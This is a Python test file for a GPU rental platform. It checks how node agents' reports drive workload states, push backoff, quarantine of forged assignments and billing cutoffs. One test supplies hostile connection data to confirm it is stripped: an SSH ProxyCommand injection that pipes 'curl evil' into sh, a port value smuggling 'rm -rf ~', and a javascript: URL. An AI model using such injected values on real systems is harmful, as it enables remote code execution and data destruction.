"""Assignments on metering's polls, contracts' side: what covers a node's GPUs (so a forged
or stray assignment is quarantined as unassigned), the push backoff, workload states from
the agent, a failed workload and a lost node ending billing at the right second."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.db.backends.postgresql.psycopg_any import DateTimeTZRange

from capacity.agent.protocol import format_time
from capacity.metering.assignments import AssignmentReport
from capacity.metering.models import NodePollState, QuarantineReason
from capacity.metering.validation import AcceptedRecord, GpuRef, Rejection, validate_record
from capacity.models import Node, NodeStatus
from contracts.assignments import apply_reports, assignment_covers, backoff_seconds, load_plans
from contracts.billable_usage import UsageKey, held_gpu_seconds
from contracts.lifecycle import contract_suspend
from contracts.models import Allocation, NodeAssignments, WorkloadState
from contracts.workloads import instance_start, workload_stop
from tests.contracts.usage_builders import active_contract, gpu_line
from tests.factories import gpu_pool

NOW = datetime(2026, 12, 4, 10, 0, tzinfo=UTC)


@pytest.fixture
def line(buyer_org, offer):
    contract = active_contract(buyer=buyer_org, since=NOW - timedelta(days=3))
    return gpu_line(contract=contract, offer=offer, since=NOW - timedelta(days=3))


@pytest.fixture
def workload(line, devices):
    return instance_start(
        line=line,
        gpu_count=2,
        image="pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime",
        ssh_public_key="",
        ports=[22],
        env={},
        actor=None,
        now=NOW,
    )


def _record(gpu_uuid: str, *, kind: str, ref: str | None, start: datetime, busy_ms: int):
    return {
        "seq": 1,
        "prev_hash": "0" * 64,
        "hash": "1" * 64,
        "gpu_uuid": gpu_uuid,
        "window_start": format_time(start),
        "window_end": format_time(start + timedelta(minutes=1)),
        "workload": {"kind": kind, "ref": ref},
        "busy_ms": busy_ms,
        "energy_mj": 0,
        "input_tokens": 0,
        "output_tokens": 0,
        "requests": 0,
    }


def _verdict(record, *, devices, covers):
    gpus = {gpu.uuid: GpuRef(device_id=gpu.pk, max_power_w=700) for gpu in devices}
    return validate_record(
        record,
        gpus=gpus,
        now_us=int((NOW + timedelta(hours=2)).timestamp() * 1_000_000),
        gpu_window_ends={},
        assignments=covers,
    )


def test_busy_time_no_assignment_covers_is_quarantined_as_unassigned(workload, devices):
    covers = assignment_covers(node_ids=[workload.node_id], now=NOW)[0][workload.node_id]
    node_gpus = devices[:4]
    at = NOW + timedelta(minutes=5)
    covered = _record(
        devices[0].uuid, kind="assignment", ref=workload.public_id, start=at, busy_ms=30_000
    )
    assert isinstance(_verdict(covered, devices=node_gpus, covers=covers), AcceptedRecord)
    cases = {
        "forged assignment id": _record(
            devices[0].uuid, kind="assignment", ref="e" * 32, start=at, busy_ms=30_000
        ),
        "a GPU the assignment does not hold": _record(
            devices[3].uuid, kind="assignment", ref=workload.public_id, start=at, busy_ms=30_000
        ),
        "before it started": _record(
            devices[0].uuid,
            kind="assignment",
            ref=workload.public_id,
            start=NOW - timedelta(minutes=10),
            busy_ms=30_000,
        ),
        "busy reported as idle": _record(
            devices[2].uuid, kind="idle", ref=None, start=at, busy_ms=1
        ),
    }
    for case, record in cases.items():
        verdict = _verdict(record, devices=node_gpus, covers=covers)
        assert isinstance(verdict, Rejection), case
        assert verdict.reason == QuarantineReason.UNASSIGNED, case
    # No busy time: nothing to bill, nothing to refuse.
    quiet = _record(devices[3].uuid, kind="assignment", ref="e" * 32, start=at, busy_ms=0)
    assert isinstance(_verdict(quiet, devices=node_gpus, covers=covers), AcceptedRecord)
    # After the stop, the assignment no longer covers the GPU.
    workload_stop(workload=workload, actor=None, now=NOW + timedelta(minutes=30))
    covers = assignment_covers(node_ids=[workload.node_id], now=NOW)[0][workload.node_id]
    late = _record(
        devices[0].uuid,
        kind="assignment",
        ref=workload.public_id,
        start=NOW + timedelta(minutes=31),
        busy_ms=30_000,
    )
    assert _verdict(late, devices=node_gpus, covers=covers).reason == QuarantineReason.UNASSIGNED


def test_plan_pushes_only_while_the_agent_is_behind(workload):
    node_id = workload.node_id
    row = NodeAssignments.objects.get(node_id=node_id)
    assert (row.generation, row.agent_generation) == (1, 0)
    # The agent reports generation 1 (it accepted it): nothing left to push.
    apply_reports(
        reports=[AssignmentReport(node_id=node_id, polled_at=NOW, agent_generation=1)], now=NOW
    )
    row.refresh_from_db()
    assert (row.agent_generation, row.is_pending) == (1, False)
    assert load_plans(node_ids=[node_id], now=NOW)[node_id].push is None
    # The agent lost its state (disk wiped, reinstalled): it holds generation 0 again and
    # is pushed the whole desired state again.
    plan = load_plans(node_ids=[node_id], now=NOW)[node_id]
    lost = AssignmentReport(node_id=node_id, polled_at=NOW, agent_generation=0)
    assert lost.is_news(plan)
    apply_reports(reports=[lost], now=NOW)
    row.refresh_from_db()
    assert row.agent_generation == 0
    push = load_plans(node_ids=[node_id], now=NOW)[node_id].push
    assert push is not None and push.generation == 1


def test_a_failing_push_backs_off_30_s_doubling_to_15_min(workload):
    node_id = workload.node_id
    assert [backoff_seconds(n) for n in (1, 2, 3, 5, 6, 10)] == [30, 60, 120, 480, 900, 900]
    moment = NOW
    for attempt, delay in ((1, 30), (2, 60), (3, 120)):
        report = AssignmentReport(
            node_id=node_id,
            polled_at=moment,
            agent_generation=0,
            pushed_generation=1,
            push_error="no connection (ConnectError)",
        )
        apply_reports(reports=[report], now=moment)
        row = NodeAssignments.objects.get(node_id=node_id)
        assert (row.attempts, row.next_attempt_at, row.agent_generation) == (
            attempt,
            moment + timedelta(seconds=delay),
            0,
        )
        # Held back until then (no push in the plan), due again after.
        assert (
            load_plans(node_ids=[node_id], now=row.next_attempt_at - timedelta(seconds=1))[
                node_id
            ].push
            is None
        )
        moment = row.next_attempt_at
    accepted = AssignmentReport(
        node_id=node_id, polled_at=moment, agent_generation=0, pushed_generation=1
    )
    apply_reports(reports=[accepted], now=moment)
    row = NodeAssignments.objects.get(node_id=node_id)
    assert (row.attempts, row.next_attempt_at, row.agent_generation, row.last_error) == (
        0,
        None,
        1,
        "",
    )


def test_agent_states_move_the_workload_and_a_failure_stops_billing_there(workload, line):
    node_id = workload.node_id
    running_since = NOW + timedelta(seconds=31)
    connection = {"host": "203.0.113.7", "ports": {"22": 40022}, "endpoint": ""}
    report = AssignmentReport(
        node_id=node_id,
        polled_at=NOW + timedelta(minutes=1),
        agent_generation=1,
        agent_digest="a" * 64,
        workloads=[
            {
                "id": workload.public_id,
                "state": "running",
                "since": format_time(running_since),
                "reason": "",
                "gpus": [],
                "connection": connection,
            },
            {"id": "f" * 32, "state": "running", "since": format_time(NOW)},  # not ours
        ],
    )
    apply_reports(reports=[report], now=NOW + timedelta(minutes=1))
    workload.refresh_from_db()
    assert (workload.state, workload.state_since, workload.connection) == (
        WorkloadState.RUNNING,
        running_since,
        connection,
    )
    assert NodeAssignments.objects.get(node_id=node_id).digest == "a" * 64
    failed_at = NOW + timedelta(minutes=47, seconds=12)
    report = AssignmentReport(
        node_id=node_id,
        polled_at=NOW + timedelta(minutes=48),
        agent_generation=1,
        agent_digest="b" * 64,
        workloads=[
            {
                "id": workload.public_id,
                "state": "failed",
                "since": format_time(failed_at),
                "reason": "CUDA error: out of memory",
            },
        ],
    )
    apply_reports(reports=[report], now=NOW + timedelta(minutes=48))
    workload.refresh_from_db()
    assert (workload.state, workload.ended_at, workload.reason) == (
        WorkloadState.FAILED,
        failed_at,
        "CUDA error: out of memory",
    )
    assert set(Allocation.objects.filter(workload=workload).values_list("period", flat=True)) == {
        DateTimeTZRange(NOW, failed_at, "[)")
    }
    # 2 GPUs x 2,832 s, not a second past the failure, whatever the clock says.
    assert held_gpu_seconds(
        start=NOW - timedelta(days=1),
        end=NOW + timedelta(days=1),
        line_ids=[line.pk],
        now=NOW + timedelta(hours=5),
    ) == {UsageKey(line.pk): Decimal(2 * 2832)}
    assert NodeAssignments.objects.get(node_id=node_id).generation == 2  # told to drop it


def _report(workload, *, at, **item):
    return AssignmentReport(
        node_id=workload.node_id,
        polled_at=at,
        agent_generation=1,
        agent_digest="c" * 64,
        workloads=[{"id": workload.public_id, **item}],
    )


def test_connection_details_a_hostile_agent_sends_never_reach_the_ssh_command(workload):
    """The buyer pastes ``ssh -p <port> root@<host>`` into a shell: only a plain host,
    the workload's own ports mapped to port numbers and an http(s) endpoint are kept."""
    hostile = {
        "host": "-oProxyCommand=sh -c 'curl evil|sh' x",
        "ports": {"22": "40022; rm -rf ~", "8888": 40023, "23": 40024, "x": True},
        "endpoint": "javascript:alert(1)",
        "extra": "kept nowhere",
    }
    at = NOW + timedelta(minutes=1)
    apply_reports(
        reports=[
            _report(workload, at=at, state="running", since=format_time(at), connection=hostile)
        ],
        now=at,
    )
    workload.refresh_from_db()
    # Port 8888 was not asked for (the instance maps port 22 only), 22's value is no port.
    assert (workload.state, workload.connection) == (WorkloadState.RUNNING, {"ports": {}})
    fine = {
        "host": "node-7.example.net",
        "ports": {"22": 40022},
        "endpoint": "https://node-7.example.net:8443/v1",
    }
    later = at + timedelta(minutes=1)
    apply_reports(
        reports=[
            _report(workload, at=later, state="running", since=format_time(at), connection=fine)
        ],
        now=later,
    )
    workload.refresh_from_db()
    assert workload.connection == fine


def test_an_agent_cannot_date_a_failure_before_the_state_it_reported(workload, line):
    running_since = NOW + timedelta(minutes=2)
    at = NOW + timedelta(minutes=3)
    apply_reports(
        reports=[_report(workload, at=at, state="running", since=format_time(running_since))],
        now=at,
    )
    later = NOW + timedelta(hours=2)
    # The agent claims the instance failed at its very start, after two hours running.
    apply_reports(
        reports=[_report(workload, at=later, state="failed", since=format_time(NOW), reason="x")],
        now=later,
    )
    workload.refresh_from_db()
    assert (workload.state, workload.ended_at) == (WorkloadState.FAILED, running_since)
    assert held_gpu_seconds(
        start=NOW - timedelta(days=1), end=NOW + timedelta(days=1), line_ids=[line.pk], now=later
    ) == {UsageKey(line.pk): Decimal(2 * 120)}


def test_suspending_a_contract_stops_its_instances(workload, line):
    suspended = contract_suspend(contract=line.contract, actor=None, reason="unpaid invoice")
    workload.refresh_from_db()
    assert (workload.state, workload.reason) == (
        WorkloadState.STOPPED,
        "The contract was suspended.",
    )
    assert workload.ended_at == suspended.suspended_at
    assert set(Allocation.objects.filter(workload=workload).values_list("period", flat=True)) == {
        DateTimeTZRange(NOW, suspended.suspended_at, "[)")
    }


def test_a_node_lost_mid_instance_stops_billing_at_its_last_healthy_minute(workload, line):
    node_id = workload.node_id
    last_seen = NOW + timedelta(hours=1, minutes=12, seconds=40)
    Node.objects.filter(pk=node_id).update(
        status=NodeStatus.UNREACHABLE, last_successful_poll_at=last_seen
    )
    NodePollState.objects.create(
        node_id=node_id, unreachable_since=last_seen + timedelta(minutes=1)
    )
    failed_poll = AssignmentReport(node_id=node_id, polled_at=NOW, poll_failed=True)
    # Two minutes out: not lost yet.
    apply_reports(reports=[failed_poll], now=last_seen + timedelta(minutes=3))
    workload.refresh_from_db()
    assert workload.state == WorkloadState.REQUESTED
    apply_reports(reports=[failed_poll], now=last_seen + timedelta(minutes=7))
    workload.refresh_from_db()
    lost_at = NOW + timedelta(hours=1, minutes=12)
    assert (workload.state, workload.ended_at, workload.reason) == (
        WorkloadState.LOST,
        lost_at,
        "The node stopped answering.",
    )
    assert held_gpu_seconds(
        start=NOW, end=NOW + timedelta(days=1), line_ids=[line.pk], now=NOW + timedelta(hours=9)
    ) == {UsageKey(line.pk): Decimal(2 * 72 * 60)}


def test_one_batch_applies_several_nodes_news_as_one_at_a_time_would(line, devices, site):
    """A batch of reports from four nodes, applied together (a few statements for all of
    them): each node ends exactly as its report alone would leave it."""

    def start():
        return instance_start(
            line=line,
            gpu_count=2,
            image="pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime",
            ssh_public_key="",
            ports=[22],
            env={},
            actor=None,
            now=NOW,
        )

    # Two nodes of 4 GPUs: the first and third instance on node A, the second on B.
    running, pushed_to_b, failing = start(), start(), start()
    node_a, node_b = running.node_id, pushed_to_b.node_id
    assert failing.node_id == node_a != node_b
    node_c = gpu_pool(site=site, gpus=1)[0].node_id
    node_d = gpu_pool(site=site, gpus=4, per_node=4)[0].node_id
    malformed = start()  # the node with the most free GPUs: D
    assert malformed.node_id == node_d
    now = NOW + timedelta(minutes=1)
    running_since = NOW + timedelta(seconds=31)
    failed_at = NOW + timedelta(seconds=45)
    connection = {"host": "203.0.113.7", "ports": {"22": 40022}, "endpoint": ""}
    reports = [
        # A: accepted generation 2, then read: one running, one failed.
        AssignmentReport(
            node_id=node_a,
            polled_at=now,
            agent_generation=1,
            pushed_generation=2,
            agent_digest="a" * 64,
            workloads=[
                {
                    "id": running.public_id,
                    "state": "running",
                    "since": format_time(running_since),
                    "connection": connection,
                },
                {
                    "id": failing.public_id,
                    "state": "failed",
                    "since": format_time(failed_at),
                    "reason": "image not found",
                },
            ],
        ),
        # B: the push failed (first attempt: 30 s backoff).
        AssignmentReport(
            node_id=node_b,
            polled_at=now,
            agent_generation=0,
            pushed_generation=1,
            push_error="no connection (ConnectError)",
        ),
        # C: never assigned, its (empty) list read: a row to remember the digest.
        AssignmentReport(
            node_id=node_c, polled_at=now, agent_generation=0, agent_digest="c" * 64, workloads=[]
        ),
        # D: a malformed moment in its list: its report alone is dropped.
        AssignmentReport(
            node_id=node_d,
            polled_at=now,
            agent_generation=0,
            agent_digest="d" * 64,
            workloads=[
                {"id": malformed.public_id, "state": "running", "since": "2026-13-45T00:00:00Z"}
            ],
        ),
    ]
    apply_reports(reports=reports, now=now)

    running.refresh_from_db()
    failing.refresh_from_db()
    pushed_to_b.refresh_from_db()
    assert (running.state, running.state_since, running.connection, running.ended_at) == (
        WorkloadState.RUNNING,
        running_since,
        connection,
        None,
    )
    assert (failing.state, failing.ended_at, failing.reason) == (
        WorkloadState.FAILED,
        failed_at,
        "image not found",
    )
    assert set(Allocation.objects.filter(workload=failing).values_list("period", flat=True)) == {
        DateTimeTZRange(NOW, failed_at, "[)")
    }
    malformed.refresh_from_db()
    assert (pushed_to_b.state, pushed_to_b.state_since) == (WorkloadState.REQUESTED, NOW)
    assert (malformed.state, malformed.state_since) == (WorkloadState.REQUESTED, NOW)
    rows = {
        row["node_id"]: row
        for row in NodeAssignments.objects.values(
            "node_id",
            "generation",
            "agent_generation",
            "digest",
            "attempts",
            "next_attempt_at",
            "last_error",
            "updated_at",
        )
    }
    assert rows == {
        # Generation 3: the failure just applied told it to drop the failed one.
        node_a: {
            "node_id": node_a,
            "generation": 3,
            "agent_generation": 2,
            "digest": "a" * 64,
            "attempts": 0,
            "next_attempt_at": None,
            "last_error": "",
            "updated_at": now,
        },
        node_b: {
            "node_id": node_b,
            "generation": 1,
            "agent_generation": 0,
            "digest": "",
            "attempts": 1,
            "next_attempt_at": now + timedelta(seconds=30),
            "last_error": "no connection (ConnectError)",
            "updated_at": now,
        },
        node_c: {
            "node_id": node_c,
            "generation": 0,
            "agent_generation": 0,
            "digest": "c" * 64,
            "attempts": 0,
            "next_attempt_at": None,
            "last_error": "",
            "updated_at": now,
        },
        node_d: {
            "node_id": node_d,
            "generation": 1,
            "agent_generation": 0,
            "digest": "",
            "attempts": 0,
            "next_attempt_at": None,
            "last_error": "",
            "updated_at": NOW,
        },
    }
